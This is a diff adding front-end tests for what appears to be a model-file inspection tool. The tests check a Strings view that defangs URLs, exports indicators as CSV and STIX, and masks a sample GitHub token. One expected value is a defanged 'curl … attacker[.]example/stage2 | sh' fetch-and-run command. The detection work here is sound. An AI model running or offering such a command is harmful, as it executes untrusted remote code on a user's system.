@@ -3,7 +3,14 @@ import { cleanup, fireEvent } from '@testing-library/react';
 import { afterEach, describe, expect, test, vi } from 'vitest';
 import { OP } from '../shared/pickle/opcodes';
 import { TABS } from './state/view';
-import { kerasSample, lockedSample, onnxSample, tensorsSample } from './testing/format-samples';
+import {
+  kerasSample,
+  lockedSample,
+  onnxSample,
+  SAMPLE_TOKEN,
+  stringsSample,
+  tensorsSample,
+} from './testing/format-samples';
 import { renderApp, screen, waitFor, within } from './testing/render-app';
 import {
   allSamples,
@@ -474,6 +481,75 @@ describe('what is not a pickle', () => {
     expect(range).toEqual(array?.range);
   });
 
+  test('lists what its texts point at: by type, filtered, defanged, copied, and each with its bytes', async () => {
+    const { bridge, session } = await renderApp();
+    bridge.add([stringsSample()]);
+    await openTab(/^Strings/);
+    const table = await screen.findByRole('grid', { name: 'Strings' });
+    const rows = () => within(table).getAllByRole('row');
+    expect(table.getAttribute('aria-rowcount')).toBe('11');
+    expect(within(table).getByText('hxxps://attacker[.]example/stage2')).toBeTruthy();
+    expect(table.textContent).not.toContain('https://');
+    fireEvent.click(screen.getByRole('button', { name: 'Defanged' }));
+    expect(within(table).getByText('https://attacker.example/stage2')).toBeTruthy();
+    fireEvent.click(screen.getByRole('button', { name: 'Defanged' }));
+    fireEvent.click(screen.getByRole('radio', { name: 'URLs 2' }));
+    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('2'));
+    const field = screen.getByRole('searchbox', { name: /Filter value/ });
+    fireEvent.change(field, { target: { value: 'stage2' } });
+    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('1'));
+    fireEvent.click(screen.getByRole('button', { name: 'CSV' }));
+    await waitFor(() => expect(bridge.clipboard).toHaveLength(1));
+    expect(bridge.clipboard[0]).toContain('"URL","hxxps://attacker[.]example/stage2","2"');
+    fireEvent.click(screen.getByRole('button', { name: 'STIX' }));
+    await waitFor(() => expect(bridge.clipboard).toHaveLength(2));
+    expect(JSON.parse(bridge.clipboard[1] as string).objects.map(({ type }: { type: string }) => type)).toEqual([
+      'file',
+      'url',
+      'observed-data',
+    ]);
+    expect(await screen.findByText('Copied 1 row as STIX')).toBeTruthy();
+    fireEvent.change(field, { target: { value: 'nothing like it' } });
+    expect(await screen.findByText('No string matches.')).toBeTruthy();
+    fireEvent.change(field, { target: { value: '' } });
+    fireEvent.click(screen.getByRole('radio', { name: 'All 11' }));
+    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('11'));
+    fireEvent.click(screen.getByRole('button', { name: 'Count' }));
+    expect(rows()[0]?.textContent).toMatch(/GitHub token/);
+    table.focus();
+    fireEvent.keyDown(table, { key: 'End' });
+    fireEvent.click(screen.getByRole('button', { name: 'Copy Command' }));
+    await waitFor(() => expect(bridge.clipboard[2]).toBe('curl hxxps://attacker[.]example/stage2 | sh'));
+    fireEvent.keyDown(table, { key: 'Enter' });
+    expect(await screen.findByRole('tab', { name: 'Hex', selected: true })).toBeTruthy();
+    expect(session.selection.getState().range).toEqual(stringsSample().report.indicators[0]?.range);
+  });
+
+  test('a secret is masked everywhere until somebody asks for it', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([stringsSample()]);
+    const inspector = await screen.findByRole('complementary', { name: 'Inspector' });
+    // The finding about it is what the window opens on.
+    expect(await within(inspector).findByText(/The file carries a GitHub token/)).toBeTruthy();
+    expect(document.body.textContent).not.toContain(SAMPLE_TOKEN);
+    await openTab(/^Strings/);
+    const table = await screen.findByRole('grid', { name: 'Strings' });
+    fireEvent.mouseDown(within(table).getByRole('row', { name: /GitHub token/ }));
+    expect(await within(inspector).findByText('ghp_… (40 characters)')).toBeTruthy();
+    expect(document.body.textContent).not.toContain(SAMPLE_TOKEN);
+    fireEvent.click(within(inspector).getByRole('button', { name: 'Reveal' }));
+    expect(await within(inspector).findByText(SAMPLE_TOKEN)).toBeTruthy();
+    fireEvent.click(within(inspector).getByRole('button', { name: 'Hide' }));
+    await waitFor(() => expect(document.body.textContent).not.toContain(SAMPLE_TOKEN));
+    fireEvent.click(within(inspector).getByRole('button', { name: 'Reveal' }));
+    await within(inspector).findByText(SAMPLE_TOKEN);
+    fireEvent.mouseDown(within(table).getByRole('row', { name: /Command/ }));
+    await waitFor(() => expect(document.body.textContent).not.toContain(SAMPLE_TOKEN));
+    for (const form of ['CSV', 'STIX']) fireEvent.click(screen.getByRole('button', { name: form }));
+    await waitFor(() => expect(bridge.clipboard).toHaveLength(2));
+    expect(bridge.clipboard.join('\n')).not.toContain(SAMPLE_TOKEN);
+  });
+
   test('shows members as a tree that opens and closes by keyboard', async () => {
     const { bridge } = await renderApp();
     bridge.add([kerasSample()]);
@@ -587,6 +663,7 @@ test('a view is looked for where there is most of it', async () => {
 test.each([
   ['an archive of pickles', archiveSample()],
   ['a Keras archive', kerasSample()],
+  ['a configuration with addresses', stringsSample()],
 ])('every control has a name, in every view of %s', async (_, sample) => {
   const { bridge, session } = await renderApp();
   bridge.add([sample]);
